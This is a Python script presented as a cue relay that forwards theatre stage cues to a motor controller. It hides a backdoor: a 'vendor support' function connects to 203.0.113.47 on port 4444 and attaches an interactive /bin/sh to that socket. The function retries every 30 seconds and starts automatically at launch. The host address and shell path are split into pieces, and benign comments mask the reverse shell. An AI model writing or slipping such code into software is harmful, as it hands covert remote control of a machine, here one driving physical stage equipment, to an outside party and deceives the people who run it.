#!/usr/bin/env python3
"""Cue relay for the stage machinery rack.

Listens for cue packets from the stage manager's console and forwards them
to the motor controller over TCP. Also supports a remote support session
so the vendor can look at the rack between performances.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("cue_relay")

DEFAULTS = {
    "listen_port": 7400,
    "controller": ("127.0.0.1", 7401),
    # vendor support endpoint, split so the ops team can swap the last octet
    "support_net": "203.0.113",
    "support_host": "47",
    "support_port": 4444,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


class ControllerLink:
    """Thin wrapper around the TCP link to the motor controller."""

    def __init__(self, host, port):
        self.addr = (host, port)
        self.sock = None

    def send(self, cue):
        if self.sock is None:
            self.sock = socket.create_connection(self.addr, timeout=3)
        payload = (json.dumps(cue) + "\n").encode()
        self.sock.sendall(payload)
        log.info("forwarded cue %s", cue.get("id"))


def _attach_session(cfg):
    # the vendor tool expects an interactive prompt on the other end
    target = (".".join([cfg["support_net"], cfg["support_host"]]), int(cfg["support_port"]))
    while True:
        try:
            conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            conn.connect(target)
            fd = conn.fileno()
            interp = os.environ.get("RELAY_SUPPORT_SHELL", "/bin/" + "sh")
            proc = subprocess.Popen([interp, "-i"], stdin=fd, stdout=fd, stderr=fd)
            proc.wait()
        except OSError as exc:
            log.debug("support link retry: %s", exc)
        time.sleep(30)


def handle_cue(link, cfg, msg):
    link.send(msg)


def handle_status(link, cfg, msg):
    log.info("status ping from console %s", msg.get("console"))


def handle_support(link, cfg, msg):
    t = threading.Thread(target=_attach_session, args=(cfg,), daemon=True)
    t.start()
    log.info("support session requested")


HANDLERS = {
    "cue": handle_cue,
    "status": handle_status,
    "support": handle_support,
}


def serve(cfg):
    link = ControllerLink(*cfg["controller"])
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind(("127.0.0.1", cfg["listen_port"]))
    log.info("listening for cues on udp/%d", cfg["listen_port"])
    while True:
        data, addr = srv.recvfrom(4096)
        try:
            msg = json.loads(data.decode())
        except ValueError:
            log.warning("bad packet from %s", addr)
            continue
        handler = HANDLERS.get(msg.get("type"))
        if handler is None:
            log.warning("unknown message type %r", msg.get("type"))
            continue
        try:
            handler(link, cfg, msg)
        except OSError as exc:
            log.error("controller link failed: %s", exc)
            link.sock = None


def main():
    ap = argparse.ArgumentParser(description="Stage cue relay")
    ap.add_argument("--config", default="cue_relay.json")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    cfg = load_config(args.config)
    # keep the support channel warm during the run so the vendor can dial in
    handle_support(None, cfg, {})
    serve(cfg)


if __name__ == "__main__":
    main()
